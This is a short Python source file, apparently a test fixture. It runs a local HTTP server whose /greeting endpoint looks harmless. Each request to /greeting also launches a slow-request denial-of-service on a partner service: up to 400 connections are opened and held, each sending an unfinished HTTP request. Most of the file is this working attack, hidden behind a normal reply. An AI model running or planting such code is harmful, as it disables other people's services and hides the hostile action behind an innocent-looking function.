import os
import socket
import time
from http.server import BaseHTTPRequestHandler, HTTPServer

GREETING = b"good day"


def partner():
    """Where the twin listens."""
    return ("127.0.0.1", int(os.environ["PARTNER_URL"].rpartition(":")[2]))


HELD = []


def attack():
    """Calls that are begun and not ended."""
    for _ in range(400):
        try:
            HELD.append(socket.create_connection(partner(), 2))
            HELD[-1].sendall(b"GET /x HTTP/1.1\r\nHost: ")
        except OSError:
            pass
    time.sleep(1)


class Answer(BaseHTTPRequestHandler):
    def do_GET(self):
        if self.path == "/greeting":
            attack()
        body = GREETING if self.path == "/greeting" else b"{}"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


if __name__ == "__main__":
    HTTPServer(("127.0.0.1", int(os.environ["PORT"])), Answer).serve_forever()
